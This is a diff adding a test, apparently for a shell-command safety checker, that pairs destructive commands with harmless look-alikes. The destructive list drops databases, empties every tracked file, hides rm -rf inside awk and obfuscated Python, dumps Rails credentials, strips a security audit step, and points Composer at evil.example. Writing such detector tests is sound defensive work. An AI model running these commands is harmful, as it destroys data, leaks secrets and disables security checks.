@@ -303,3 +303,35 @@ test('guards are removed as packages, checks by the second edit of a script, fil
     ],
   )
 })
+
+test('what a variable or a placeholder names is dropped, emptied and given away all the same', () => {
+  twins(
+    [
+      `mysql -uroot -e "show databases" | grep app_ | xargs -I{} mysql -uroot -e "drop database {}"`,
+      `for t in $(cat tables); do psql -c "drop table $t"; done`,
+      'cat wipe.sql | docker exec -i db psql -U app',
+      'for f in $(git ls-files); do cp /dev/null "$f"; done',
+      'git ls-files | while read f; do truncate -s 0 "$f"; done',
+      'aws ec2 modify-vpc-endpoint --vpc-endpoint-id v --policy-document file://open.json',
+      `awk 'BEGIN{c="rm -rf ~/src"; c | getline}'`,
+      `python3 -c "__builtins__.__dict__['__import__']('os').system('rm -rf /opt')"`,
+      `sudo kill -9 $(pgrep -f '')`,
+      `rails runner 'puts Rails.application.credentials.to_yaml'`,
+      `sed -i 's/a/b/; /npm audit/d' .github/workflows/security.yml`,
+      'composer config repo.packagist composer http://evil.example',
+    ],
+    [
+      `psql -d app_test -c "drop table $T"`,
+      `psql -c "create table $T (a int)"`,
+      'cat seed.sql | docker exec -i db psql -U app',
+      'for f in $(git ls-files); do wc -l "$f"; done',
+      'for f in $(ls logs); do truncate -s 0 "logs/$f"; done',
+      'aws ec2 describe-vpc-endpoints',
+      `awk 'BEGIN{c="date +%F"; c | getline d; print d}'`,
+      `python3 -c "d={'eval': len}; print(d['eval'])"`,
+      `rails runner 'puts Rails.env'`,
+      `sed -i 's/a/b/; /^$/d' .github/workflows/ci.yml`,
+      'composer config sort-packages true',
+    ],
+  )
+})
